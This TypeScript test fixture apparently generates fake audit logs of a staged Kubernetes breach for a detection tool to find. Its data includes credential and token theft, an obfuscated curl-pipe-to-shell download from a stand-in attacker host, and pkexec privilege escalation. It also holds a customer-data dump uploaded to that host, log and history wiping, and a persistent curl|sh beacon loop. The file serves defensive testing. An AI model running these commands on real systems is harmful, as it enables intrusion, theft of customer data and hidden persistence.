import type { ClusterId } from "../audit/ids.ts";
import { deployer, stolenDeveloper } from "./people.ts";
import { placeIn, type SampleCluster, shopProd, shopStaging } from "./sampleClusters.ts";
import { type Place, type Process, Session, type TimedRecord } from "./session.ts";

/**
 * The incident hidden in the sample. Somebody who has the credentials of dev-07 enters the payments API of production,
 * comes back hours later, takes the service account's token, downloads and runs a tool that makes them root, finds a
 * kubeconfig of staging, steps over, takes the customers' data out, removes the tracks and leaves a loop behind.
 * `test/fixtures/incident.facts.json` lists what there is to find.
 */
export function incidentRecords(cluster: ClusterId, anchorMs: number): readonly TimedRecord[] {
  const acts = actsByCluster.get(cluster) ?? [];
  return acts.flatMap((act) => act(anchorMs)).sort((a, b) => a.atMs - b.atMs);
}

/** Auditing of shop-staging was removed so long after the anchor; nothing recorded there says by whom. */
export const stagingRemovedAfterMs = at("5:05:00");

/** Made for one look at the network and deleted; only its records are left. */
export const gonePod = "debug-dev-07-5wq8z";

/** Where the attacker's files come from and the data goes. */
const attacker = "http://198.51.100.23";

const downloadTool = `curl -fsSL ${attacker}/d/kw -o /dev/shm/.kw`;

function at(time: string): number {
  const [hours = 0, minutes = 0, seconds = 0] = time.split(":").map(Number);
  return ((hours * 60 + minutes) * 60 + seconds) * 1000;
}

function placeOf(cluster: SampleCluster, namespace: string, name: string): Place {
  const pod = cluster.pods.find((candidate) => candidate.namespace === namespace && candidate.name === name);
  if (pod === undefined) throw new Error(`The sample has no pod ${namespace}/${name}.`);
  return placeIn(cluster, pod);
}

/** The payments API: a short first look, four hours of silence, then all of it within eleven minutes. */
function paymentsApi(anchorMs: number): readonly TimedRecord[] {
  const session = new Session(placeOf(shopProd, "payments", "api-6f7c9d5b8-k2x4p"), stolenDeveloper, "incident/api");
  const bash = session.enter(anchorMs, ["bash"]);
  const type = (time: string, line: string, shell: Process = bash, uid = 1000) =>
    session.line(anchorMs + at(time), line, { parent: shell, uid });

  type("0:00:06", "id");
  for (let look = 0; look < 14; look++) session.line(anchorMs + 15_000 + look * 880, "ls", { parent: bash });

  type("4:12:27", "cat /var/run/secrets/kubernetes.io/serviceaccount/token");
  type("4:12:36", "env | sort");
  type("4:12:44", "find / -perm -4000 -type f 2>/dev/null");

  const hidden = `echo ${btoa(downloadTool)} | base64 -d | sh`;
  const outer = session.run(anchorMs + at("4:12:58"), ["sh", "-c", hidden], { parent: bash });
  const inner = session.line(anchorMs + at("4:12:58") + 9, "base64 -d | sh", { parent: outer }).at(-1);
  type("4:12:59", downloadTool, inner);
  type("4:13:02", "chmod +x /dev/shm/.kw");

  const pkexec = session.run(anchorMs + at("4:13:06"), ["pkexec", "/dev/shm/.kw"], { parent: bash, uid: 0 });
  const tool = session.run(anchorMs + at("4:13:06") + 45, ["/dev/shm/.kw"], { parent: pkexec, uid: 0 });
  const root = session.run(anchorMs + at("4:13:07"), ["bash", "-p"], { parent: tool, uid: 0 });
  const asRoot = (time: string, line: string) => type(time, line, root, 0);
  asRoot("4:13:12", "id");
  asRoot("4:13:25", "cat /etc/shadow");
  asRoot("4:13:50", "ls -la /etc/deploy");
  asRoot("4:13:58", "cat /etc/deploy/staging.kubeconfig");
  asRoot("4:14:20", "cp /etc/deploy/staging.kubeconfig /dev/shm/.cfg");
  asRoot("4:15:10", `curl -fsSL ${attacker}/d/kc -o /dev/shm/.kc`);
  asRoot("4:15:16", "chmod 700 /dev/shm/.kc");
  asRoot("4:15:41", "/dev/shm/.kc --kubeconfig /dev/shm/.cfg -n payments get pods -o wide");
  asRoot("4:16:20", "/dev/shm/.kc --kubeconfig /dev/shm/.cfg auth can-i --list");
  asRoot("4:17:05", "/dev/shm/.kc --kubeconfig /dev/shm/.cfg -n payments exec -i db-0 -c postgres -- sh");
  asRoot("4:23:20", "shred -u /dev/shm/.kw /dev/shm/.kc /dev/shm/.cfg");
  asRoot("4:23:34", "rm -f /root/.bash_history /home/app/.bash_history");
  asRoot("4:23:47", "touch -r /etc/hostname /dev/shm");
  asRoot("4:23:53", "ls -la /dev/shm");
  return session.records;
}

/** During the silence: a look at the network from a pod of one's own. */
function debugPod(anchorMs: number): readonly TimedRecord[] {
  const place: Place = {
    ...placeOf(shopProd, "payments", "web-84c6d9f7b5-t6njs"),
    pod: gonePod,
    labels: { run: gonePod },
    container: { name: gonePod, image: "registry.shop.example/tools/netshoot:0.13" },
    uid: 0,
    directory: "/root",
  };
  const session = new Session(place, stolenDeveloper, "incident/debug");
  const bash = session.enter(anchorMs + at("3:31:10"), ["bash"]);
  const type = (time: string, line: string) => session.line(anchorMs + at(time), line, { parent: bash });
  type("3:31:22", "ip -br addr");
  type("3:31:49", "cat /etc/resolv.conf | grep -v '^#'");
  type("3:32:30", "dig +short ledger.payments.svc.cluster.local");
  type("3:33:05", "nmap -Pn -sT -p 5432,6379,8080,10250 203.0.113.11-16");
  type("3:36:41", "nc -zv ledger.payments.svc.cluster.local 5432");
  type("3:37:12", "curl -sk https://kubernetes.default.svc/version");
  return session.records;
}

/** The other cluster, as the service account whose kubeconfig lay in production. */
function stagingDatabase(anchorMs: number): readonly TimedRecord[] {
  const session = new Session(placeOf(shopStaging, "payments", "db-0"), deployer, "incident/staging");
  const shell = session.enter(anchorMs + at("4:17:06"), ["sh"]);
  const type = (time: string, line: string) => session.line(anchorMs + at(time), line, { parent: shell });
  type("4:17:14", "id");
  type("4:17:31", "ls -la /var/lib/postgresql/data");
  type("4:17:58", "psql -U postgres -l");
  type(
    "4:18:47",
    `psql -U postgres -d shop -c "\\copy (select name, phone, card_last4 from customers) to '/tmp/.c.csv' csv header"`,
  );
  type("4:19:22", "wc -l /tmp/.c.csv");
  type("4:19:51", "tar czf /tmp/.c.tgz -C /tmp .c.csv");
  type("4:20:33", `curl -fsS -T /tmp/.c.tgz ${attacker}/u/c-7f3a.tgz`);
  type("4:21:58", "shred -u /tmp/.c.csv /tmp/.c.tgz");
  type("4:22:31", "truncate -s 0 /var/lib/postgresql/data/log/postgresql.log");
  return session.records;
}

/** What is left behind: a loop that asks for orders every ten minutes. */
function paymentsWeb(anchorMs: number): readonly TimedRecord[] {
  const session = new Session(placeOf(shopProd, "payments", "web-84c6d9f7b5-t6njs"), stolenDeveloper, "incident/web");
  const shell = session.enter(anchorMs + at("4:41:05"), ["sh"]);
  const startMs = anchorMs + at("4:41:20");
  const loop = session.run(startMs, ["sh", "-c", `while sleep 600; do curl -fsS ${attacker}/b | sh; done`], {
    parent: shell,
  });
  for (let beat = 0; beat <= 3; beat++) {
    const beatMs = startMs + beat * 600_500;
    // The first round begins with the pause; each later one asks, runs what it got, and pauses again.
    if (beat > 0) session.line(beatMs, `curl -fsS ${attacker}/b | sh`, { parent: loop });
    if (beat < 3) session.line(beatMs + 1_400, "sleep 600", { parent: loop });
  }
  return session.records;
}

const actsByCluster: ReadonlyMap<ClusterId, readonly ((anchorMs: number) => readonly TimedRecord[])[]> = new Map([
  [shopProd.cluster.id, [paymentsApi, debugPod, paymentsWeb]],
  [shopStaging.cluster.id, [stagingDatabase]],
]);
